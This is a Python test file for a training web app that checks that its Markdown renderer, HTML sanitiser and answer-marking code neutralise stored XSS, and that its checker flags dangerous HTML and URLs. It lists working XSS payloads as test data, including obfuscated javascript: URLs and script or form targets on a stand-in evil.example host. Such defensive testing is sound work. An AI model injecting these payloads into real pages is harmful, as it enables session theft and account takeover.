"""Stored XSS at the two places where the app writes HTML itself instead of letting Jinja escape: lesson
Markdown (Markdown → nh3) and the marking of a trainee's answer (``mark_evidence``). Every payload of the
corpus on its own, so no payload hides behind its neighbours; and the checker itself, on known-bad HTML."""
import pytest

from trainer.core.content.rendering import render_markdown, sanitise_html
from trainer.web.study.quizzes import mark_evidence

from .xss_corpus import problems_in, require_corpus, url_is_dangerous


def _each(check):
    failures = []
    for payload in require_corpus():
        found = check(payload)
        if found:
            failures.append(f"{payload[:100]!r}: {found[:2]}")
    return failures


def test_no_payload_survives_the_lesson_markdown():
    failures = _each(lambda payload: problems_in(render_markdown(payload).html))
    assert not failures, "\n".join(failures[:20])


def test_no_payload_survives_the_sanitiser_even_as_raw_html():
    """Markdown shows raw HTML as text; nh3 must hold even if that ever changed."""
    failures = _each(lambda payload: problems_in(sanitise_html(payload)))
    assert not failures, "\n".join(failures[:20])


def test_no_payload_survives_the_marking_of_an_answer():
    def marked(payload):
        third = max(1, len(payload) // 3)
        earned = [{"span": [0, third]}, {"span": [third + 1, 2 * third]}]  # marks cut through tags and entities
        return problems_in(str(mark_evidence(payload, {"points": {"earned": earned}})))
    failures = _each(marked)
    assert not failures, "\n".join(failures[:20])


@pytest.mark.parametrize("html", [
    "<script>alert(1)</script>",
    '<script src="https://evil.example/x.js"></script>',
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#x6A;avascript:alert(1)">x</a>',
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<math><a href="javascript:alert(1)">x</a></math>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<form action="https://evil.example/"><input></form>',
])
def test_the_checker_sees_what_a_browser_would_run(html):
    assert problems_in(f"<!doctype html><html><body><p>{html}</p></body></html>")


@pytest.mark.parametrize("html", [
    '<script src="/static/js/app.js" defer></script><link rel="stylesheet" href="/static/css/app.css">',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;</p>",
    '<textarea>"><script>alert(1)</script></textarea><input value="javascript:alert(1)">',
    '<a href="/study/lessons/greeting" title="onload=alert(1)">x</a>',
])
def test_the_checker_leaves_escaped_text_and_the_apps_own_tags_alone(html):
    assert problems_in(html) == []


@pytest.mark.parametrize(("value", "dangerous"), [
    ("javascript:alert(1)", True), (" JaVaScRiPt:alert(1)", True), ("java\nscript:x", True),
    ("\x01javascript:x", True), ("vbscript:x", True), ("data:text/html;base64,xx", True),
    ("data:image/svg+xml,<svg onload=alert(1)>", True), ("data:image/png;base64,xx", False), ("/study/", False),
    ("https://example.com/javascript:x", False), ("javascript\\x3Ajavascript:x", False), ("java\x01script:x", False),
])
def test_dangerous_urls(value, dangerous):
    assert url_is_dangerous(value) is dangerous
